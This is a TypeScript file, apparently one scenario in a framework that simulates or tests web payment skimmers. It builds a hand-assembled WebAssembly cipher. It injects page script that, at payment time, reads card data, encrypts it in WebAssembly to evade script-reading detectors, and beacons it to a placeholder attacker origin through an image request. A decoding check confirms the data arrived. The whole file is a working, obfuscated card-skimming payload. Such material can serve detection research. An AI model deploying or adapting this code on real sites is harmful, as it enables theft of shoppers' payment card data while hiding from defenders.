import { holds, js, skimmer } from '../behaviour.ts';
import { query } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

/**
 * Assembled by hand: one page of memory, exported as `m`; `f(length, state)` walks the bytes and XORs each with the high
 * bits of a linear congruential generator (1103515245, 12345).
 */
const MODULE = [
  '0061736d01000000', // magic, version
  '0106016002' + '7f7f00', // type: (i32, i32) -> ()
  '03020100', // function 0 has type 0
  '0503010001', // memory: one page
  '0709' + '02' + '016d0200' + '01660000', // exports m, f
  '0a3c' + '01' + '3a' + '01017f', // code: one body, one local i32 (the index)
  '0240' + '0340', // block, loop
  '20022000' + '4f' + '0d01', // index >= length: leave
  '200141ed9c998e04' + '6c' + '41b9e000' + '6a' + '2101', // state = state * 1103515245 + 12345
  '2002' + '2002' + '2d0000' + '2001' + '4110' + '76' + '73' + '3a0000', // m[i] ^= state >>> 16
  '2002' + '4101' + '6a' + '2102' + '0c00', // index + 1, again
  '0b0b0b',
].join('');

function undo(bytes: Uint8Array): string {
  let state = 4711;
  return Buffer.from(
    bytes.map((byte) => {
      state = (Math.imul(state, 1103515245) + 12345) | 0;
      return byte ^ ((state >>> 16) & 255);
    }),
  ).toString('latin1');
}

export default skimmer({
  id: 'wasm-cipher',
  why: 'The cipher is WebAssembly: nothing a reader of scripts or a list of natives would recognise touches the plaintext.',
  covers: ['cipher: any', 'hard: resists analysis'],
  base: 'direct',
  install: (site) =>
    site.append(js`WebAssembly.instantiate(Uint8Array.from('${MODULE}'.match(/../g), function (h) { return parseInt(h, 16); })).then(function (w) {
${onPay(js`
    var text = card(), memory = new Uint8Array(w.instance.exports.m.buffer);
    for (var i = 0; i < text.length; i++) memory[i] = text.charCodeAt(i);
    w.instance.exports.f(text.length, 4711);
    var out = '';
    for (i = 0; i < text.length; i++) out += ('0' + memory[i].toString(16)).slice(-2);
    new Image().src = '${site.origins.evil}/m.gif?d=' + out;`)}
});`),
  proof: holds((arrived) => query(arrived, 'd').map((text) => undo(Buffer.from(text, 'hex')))),
});
